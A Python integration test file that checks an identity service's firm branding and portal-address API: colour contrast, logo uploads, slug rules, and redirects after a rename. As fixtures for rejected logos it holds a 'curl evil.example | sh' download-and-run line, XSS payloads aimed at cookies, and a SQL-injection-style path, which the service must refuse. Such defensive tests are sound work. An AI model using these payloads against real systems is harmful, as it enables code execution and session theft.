"""A firm's branding and portal address through identity's API, on real PostgreSQL, RabbitMQ
and S3: colours refused with their ratio, logos judged by content, the address's rules, its
uniqueness across firms, renaming with a 301 from the old address, the old address kept for
90 days and then free (identity's clock moved forward), and the event each change makes."""

from collections.abc import Mapping
from datetime import timedelta
from typing import Any

import pytest

from services.identity import clock
from tests.identity.integration.conftest import Answer, Identity
from tests.support.capture import Capture
from tests.support.images import png, svg
from tests.support.names import unique


def slug_for(name: str) -> str:
    return unique(name).lower().replace("_", "-")[:40].strip("-")


async def put_logo(identity: Identity, token: str, content: bytes, kind: str) -> Answer:
    headers = {"Authorization": f"Bearer {token}", "Content-Type": kind}
    async with identity.http.put(
        "/api/v1/firms/current/branding/logo", data=content, headers=headers
    ) as response:
        return Answer(response.status, await response.json(), dict(response.headers))


async def fetch(identity: Identity, path: str) -> tuple[int, bytes, Mapping[str, str]]:
    async with identity.http.get(path, allow_redirects=False) as response:
        return response.status, await response.read(), response.headers.copy()


async def branded(identity: Identity, **look: Any) -> tuple[dict[str, Any], str]:
    owner = await identity.sign_up()
    slug = slug_for("firm")
    answer = await identity.as_(owner["token"]).put("/api/v1/firms/current/slug", {"slug": slug})
    assert answer.status == 200, answer.body
    if look:
        answer = await identity.as_(owner["token"]).put("/api/v1/firms/current/branding", look)
        assert answer.status == 200, answer.body
    return owner, slug


async def test_colours_white_text_is_unreadable_on_are_refused_with_field_and_ratio(
    identity: Identity,
) -> None:
    owner = await identity.sign_up()
    as_owner = identity.as_(owner["token"])
    look = {"display_name": "Bokföring & Co", "primary_color": "#1A5FB4", "accent_color": "#777"}
    answer = await as_owner.put("/api/v1/firms/current/branding", look)
    assert answer.status == 422
    assert answer.body["field"] == "accent_color"
    look["accent_color"] = "#ffcc00"
    answer = await as_owner.put("/api/v1/firms/current/branding", look)
    assert answer.status == 422, answer.body
    assert answer.headers["Content-Type"].startswith("application/problem+json")
    assert answer.body["field"] == "accent_color"
    assert answer.body["ratio"] == 1.51
    assert "1.51:1" in answer.body["detail"]
    look["accent_color"] = "#8a3d00"
    answer = await as_owner.put("/api/v1/firms/current/branding", look)
    assert answer.status == 200, answer.body
    assert answer.body["primary_color"] == "#1a5fb4"
    assert answer.body["accent_color"] == "#8a3d00"
    assert (await as_owner.get("/api/v1/firms/current/branding")).body == answer.body


async def test_a_png_logo_is_public_at_the_portal_address_with_caching(
    identity: Identity, captured: Capture
) -> None:
    owner, slug = await branded(identity, primary_color="#1a5fb4")
    answer = await put_logo(identity, owner["token"], png(), "application/octet-stream")
    assert answer.status == 200, answer.body
    url = answer.body["logo_url"]
    assert url.startswith(f"{identity.settings.public_url}/api/v1/branding/{slug}/logo?v=")
    status, body, headers = await fetch(identity, url.removeprefix(identity.settings.public_url))
    assert (status, body, headers["Content-Type"]) == (200, png(), "image/png")
    assert headers["Cache-Control"] == "public, max-age=86400"
    assert headers["ETag"]
    assert headers["X-Content-Type-Options"] == "nosniff"
    event = await captured.next("identity.firm.branding_changed", lambda d: d["logo_url"] == url)
    assert event["slug"] == slug
    assert event["primary_color"] == "#1a5fb4"
    assert event["portal_url"] == f"{identity.settings.public_url}/p/{slug}"


async def test_a_new_logo_replaces_the_old_one_and_removing_it_leaves_none(
    identity: Identity,
) -> None:
    owner, slug = await branded(identity)
    first = (await put_logo(identity, owner["token"], png(4, 4), "image/png")).body["logo_url"]
    second = (await put_logo(identity, owner["token"], svg("<rect/>"), "image/svg+xml")).body
    assert second["logo_url"] != first
    keys = await identity.sql("SELECT logo_key FROM firms WHERE logo_key IS NOT NULL")
    assert len(keys) == 1
    status, _body, headers = await fetch(identity, f"/api/v1/branding/{slug}/logo")
    assert (status, headers["Content-Type"]) == (200, "image/svg+xml")
    assert "sandbox" in headers["Content-Security-Policy"]
    assert (
        await identity.as_(owner["token"]).delete("/api/v1/firms/current/branding/logo")
    ).status == 204
    assert (await fetch(identity, f"/api/v1/branding/{slug}/logo"))[0] == 404
    assert (await identity.get(f"/api/v1/branding/{slug}")).body["logo_url"] is None


@pytest.mark.parametrize(
    ("content", "kind", "status"),
    [
        (b"#!/bin/sh\ncurl evil.example | sh\n", "image/png", 422),
        (b"<script>alert(document.cookie)</script>", "image/png", 422),
        (png() + b"\0" * (512 * 1024), "image/png", 413),
        (svg("<script>alert(1)</script>"), "image/svg+xml", 422),
        (svg("<rect/>", 'onload="alert(1)"'), "image/svg+xml", 422),
        (svg('<a href="javascript:alert(1)"><rect/></a>'), "image/svg+xml", 422),
        (svg('<image xlink:href="https://evil.example/x.png"/>'), "image/svg+xml", 422),
    ],
)
async def test_an_attackers_logo_is_refused_and_nothing_is_stored(
    identity: Identity, content: bytes, kind: str, status: int
) -> None:
    owner, slug = await branded(identity)
    answer = await put_logo(identity, owner["token"], content, kind)
    assert answer.status == status, answer.body
    assert answer.body["field"] == "logo"
    assert answer.headers["Content-Type"].startswith("application/problem+json")
    assert await identity.value("SELECT count(*) FROM firms WHERE logo_key IS NOT NULL") == 0
    assert (await fetch(identity, f"/api/v1/branding/{slug}/logo"))[0] == 404


@pytest.mark.parametrize(
    "slug", ["ab", "Versal", "under_score", "-dash", "api", "sign-in", "x" * 41]
)
async def test_portal_address_rules(identity: Identity, slug: str) -> None:
    owner = await identity.sign_up()
    answer = await identity.as_(owner["token"]).put("/api/v1/firms/current/slug", {"slug": slug})
    assert answer.status == 422, answer.body
    assert answer.body["field"] == "slug"


async def test_an_address_is_one_firms_and_a_rename_redirects_for_ninety_days(
    identity: Identity, monkeypatch: pytest.MonkeyPatch
) -> None:
    first, old = await branded(identity, display_name="Första Byrån")
    second = await identity.sign_up()
    as_first, as_second = identity.as_(first["token"]), identity.as_(second["token"])
    taken = await as_second.put("/api/v1/firms/current/slug", {"slug": old})
    assert taken.status == 409
    assert taken.body["field"] == "slug"

    new = slug_for("renamed")
    moved = await as_first.put("/api/v1/firms/current/slug", {"slug": new})
    assert moved.status == 200
    assert moved.body["slug"] == new
    status, _, headers = await fetch(identity, f"/api/v1/branding/{old}")
    assert status == 301
    assert headers["Location"] == f"/api/v1/branding/{new}"
    current = await identity.get(f"/api/v1/branding/{new}")
    assert current.status == 200
    assert current.body["display_name"] == "Första Byrån"
    # During the 90 days the old address stays the first firm's.
    assert (await as_second.put("/api/v1/firms/current/slug", {"slug": old})).status == 409

    later = clock.now() + timedelta(days=90, seconds=1)
    monkeypatch.setattr(clock, "now", lambda: later)
    assert (await identity.get(f"/api/v1/branding/{old}")).status == 404
    claimed = await as_second.put("/api/v1/firms/current/slug", {"slug": old})
    assert claimed.status == 200, claimed.body
    assert (await identity.get(f"/api/v1/branding/{old}")).body["display_name"] == "Bokföring AB"
    assert (await identity.get(f"/api/v1/branding/{new}")).body["display_name"] == "Första Byrån"


async def test_a_firm_may_take_back_its_own_old_address(identity: Identity) -> None:
    owner, old = await branded(identity)
    as_owner = identity.as_(owner["token"])
    assert (
        await as_owner.put("/api/v1/firms/current/slug", {"slug": slug_for("new")})
    ).status == 200
    back = await as_owner.put("/api/v1/firms/current/slug", {"slug": old})
    assert back.status == 200
    assert back.body["slug"] == old
    assert (await identity.get(f"/api/v1/branding/{old}")).status == 200


async def test_the_public_lookup_shows_only_public_branding(identity: Identity) -> None:
    owner, slug = await branded(identity, display_name="Visad Byrå", primary_color="#0b5394")
    answer = await identity.get(f"/api/v1/branding/{slug}")
    assert answer.status == 200
    assert set(answer.body) == {"slug", "display_name", "primary_color", "accent_color",
                                "logo_url", "portal_url", "sign_in_methods"}  # fmt: skip
    assert answer.body["sign_in_methods"] == ["magic_link", "password"]
    text = str(answer.body)
    for private in (owner["firm"]["id"], owner["email"], "bureau", "SE"):
        assert private not in text
    for nobody in ("no-such-firm-here", "%00", "API", "a" * 300, "x%27%3B--"):
        assert (await identity.get(f"/api/v1/branding/{nobody}")).status == 404
        assert (await fetch(identity, f"/api/v1/branding/{nobody}/logo"))[0] == 404
